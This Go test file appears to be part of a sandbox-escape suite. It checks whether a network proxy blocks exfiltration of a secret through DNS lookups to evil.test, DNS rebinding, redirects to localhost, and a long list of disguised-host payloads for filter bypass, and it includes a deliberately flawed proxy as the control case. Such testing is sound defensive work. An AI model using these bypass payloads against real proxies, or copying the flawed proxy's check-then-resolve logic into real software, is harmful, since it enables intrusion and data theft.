//go:build linux && (amd64 || arm64)

package escape

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"time"

	"github.com/hermesboard/hermes/sandbox"
	"github.com/hermesboard/hermes/sandbox/driver"
	"github.com/hermesboard/hermes/sandbox/proxy"
)

// Attempts through the run's own proxy. Their control is a proxy as one would
// write it in an afternoon.
var proxyAttempts = []attempt{
	{id: "N11", name: "carry data out in names that the proxy looks up", needs: driver.NetworkProxy, stage: stageNames, try: func(in inside) {
		for _, name := range []string{in["secret"] + ".evil.test:443", in["secret"] + ".allowed.test.evil.test:443"} {
			ask(in, "CONNECT "+name+" HTTP/1.1\r\nHost: "+name+"\r\n\r\n")
			ask(in, "GET http://"+name+"/ HTTP/1.1\r\nHost: "+name+"\r\n\r\n")
		}
	}},
	{id: "N12", name: "disguise a host from the proxy", needs: driver.NetworkProxy, stage: stageSink, try: disguise},
	{id: "N13", name: "a name that leads to this host when asked again", needs: driver.NetworkProxy, stage: stageSink, try: func(in inside) {
		for range 3 {
			ask(in, "CONNECT rebinding.test:443 HTTP/1.1\r\nHost: rebinding.test:443\r\n\r\nhit")
			ask(in, "GET http://rebinding.test/ HTTP/1.1\r\nHost: rebinding.test\r\n\r\n")
		}
	}},
	{id: "N14", name: "a redirect to this host", needs: driver.NetworkProxy, stage: stageSink, try: followRedirect},
}

// names is what the world's name server answers in these attempts.
type names struct {
	mu    sync.Mutex
	asked []string // guarded by mu
}

var (
	outside   = netip.MustParseAddr("9.9.9.9") // stands for any public address; dialled as the scene says
	localhost = netip.MustParseAddr("127.0.0.1")
)

func (n *names) resolve(_ context.Context, host string) ([]netip.Addr, error) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.asked = append(n.asked, host)
	if host != "rebinding.test" {
		return []netip.Addr{outside}, nil
	}
	times := 0
	for _, h := range n.asked {
		if h == host {
			times++
		}
	}
	if times%2 == 1 {
		return []netip.Addr{outside}, nil
	}
	return []netip.Addr{localhost}, nil
}

func stageNames(s *scene) (judge, error) {
	secret := strings.ToLower(filepath.Base(s.dir))
	s.args["secret"] = secret
	n := new(names)
	return func() (bool, string) {
		n.mu.Lock()
		defer n.mu.Unlock()
		for _, host := range n.asked {
			if strings.Contains(host, secret) {
				return true, "the name server was asked"
			}
		}
		return false, ""
	}, s.proxied(n, "")
}

func stageSink(s *scene) (judge, error) {
	port, c, err := s.sink()
	if err != nil {
		return nil, err
	}
	s.args["port"] = port
	return c.judge, s.proxied(new(names), port)
}

// proxied gives the run a proxy. Behind outside is a server that redirects to
// the sink; at this host's own address is the sink.
func (s *scene) proxied(n *names, sink string) error {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://127.0.0.1:"+sink+"/", http.StatusFound)
	}))
	s.defers(server.Close)
	dial := func(ctx context.Context, at netip.AddrPort) (net.Conn, error) {
		to := server.Listener.Addr().String()
		switch {
		case at.Addr() == outside:
		case at.Addr().IsLoopback():
			to = net.JoinHostPort(at.Addr().String(), sink)
		default:
			return nil, errors.New("nothing leaves this host")
		}
		return new(net.Dialer).DialContext(ctx, "tcp", to)
	}
	if s.careless {
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			return err
		}
		s.args["proxy"] = l.Addr().String()
		s.accept(l, func(conn net.Conn) { carelessProxy(conn, n, dial) })
		return nil
	}
	p, err := proxy.New(proxy.Options{
		Allow: []string{"allowed.test", "allowed.test:80", "rebinding.test", "rebinding.test:80"}, Resolve: n.resolve, Dial: dial,
	})
	if err != nil {
		return err
	}
	if s.spec.SocketDir == "" {
		return errors.New("the backend shows no socket inside")
	}
	l, err := net.Listen("unix", filepath.Join(s.spec.SocketDir, proxy.Socket))
	if err != nil {
		return err
	}
	if err := os.Chmod(l.Addr().String(), 0o666); err != nil { // the folder is the guard
		return err
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		defer close(done)
		p.Serve(ctx, l)
	}()
	s.defers(func() {
		cancel()
		<-done
	})
	s.spec.Network = sandbox.ProxyNetwork
	s.args["proxy"] = proxy.Listen
	return nil
}

// carelessProxy reads as C does, checks a name and then resolves it again,
// takes every spelling of an address, and follows what it is told.
func carelessProxy(conn net.Conn, n *names, dial func(context.Context, netip.AddrPort) (net.Conn, error)) {
	conn.SetDeadline(time.Now().Add(5 * time.Second))
	r := bufio.NewReader(conn)
	line, err := r.ReadString('\n')
	if err != nil {
		return
	}
	_, target, _ := strings.Cut(line, " ")
	target, _, _ = strings.Cut(strings.TrimPrefix(target, "http://"), " ")
	target, _, _ = strings.Cut(target, "/")
	target, _, _ = strings.Cut(target, "\x00")
	if i := strings.LastIndex(target, "@"); i >= 0 {
		target = target[i+1:]
	}
	host := strings.Trim(strings.TrimSuffix(target, ":"+portOf(target)), "[].")
	addr, err := netip.ParseAddr(host)
	if err != nil {
		n.resolve(context.Background(), host) // this answer is checked
		found, _ := n.resolve(context.Background(), host)
		addr = found[0] // and this one is used
	}
	if strings.Contains(host, "localhost") || host == "2130706433" {
		addr = localhost
	}
	to, err := dial(context.Background(), netip.AddrPortFrom(addr.Unmap(), 443))
	if err != nil {
		return
	}
	defer to.Close()
	to.SetDeadline(time.Now().Add(5 * time.Second))
	io.WriteString(to, "GET / HTTP/1.0\r\n\r\n")
	io.Copy(conn, to)
}

func portOf(target string) string {
	if i := strings.LastIndex(target, ":"); i >= 0 && !strings.Contains(target[i:], "]") {
		return target[i+1:]
	}
	return ""
}

// ask sends a request as it is.
func ask(in inside, raw string) {
	conn, err := net.DialTimeout("tcp", in["proxy"], 5*time.Second)
	if err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(5 * time.Second))
	io.WriteString(conn, raw)
	conn.(*net.TCPConn).CloseWrite() // nobody has to wait for more
	io.Copy(io.Discard, conn)
}

func disguise(in inside) {
	for _, host := range []string{
		"127.0.0.1", "127.0.0.1\x00.allowed.test", "allowed.test\x00@127.0.0.1", "allowed.test@127.0.0.1", "localhost", "localhost.", "LOCALHOST", "ｌocalhost",
		"[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::1]", "[::]", "2130706433", "0x7f000001", "017700000001", "0177.0.0.1", "127.1", "0", "0.0.0.0", "127.0.0.1.",
		"allowed.test.", "allowed.test%00.127.0.0.1", "allowed。test", "аllowed.test", "xn--llowed-4of.test", "127.0.0.1#.allowed.test", "127.0.0.1/.allowed.test",
		"127.0.0.1\\.allowed.test", "127.0.0.1\r\nX: allowed.test", "127.0.0.1 allowed.test", "[64:ff9b::7f00:1]", "[2002:7f00:1::]",
	} {
		for _, port := range []string{in["port"], "443", "80"} {
			ask(in, "CONNECT "+host+":"+port+" HTTP/1.1\r\nHost: "+host+":"+port+"\r\n\r\nhit")
			ask(in, "GET http://"+host+":"+port+"/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
		}
	}
}

// followRedirect uses a client that goes where it is sent, by the proxy.
func followRedirect(in inside) {
	client := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{
		Proxy: http.ProxyURL(&url.URL{Scheme: "http", Host: in["proxy"]}), DisableKeepAlives: true,
	}}
	if resp, err := client.Get("http://allowed.test/"); err == nil {
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
	}
}
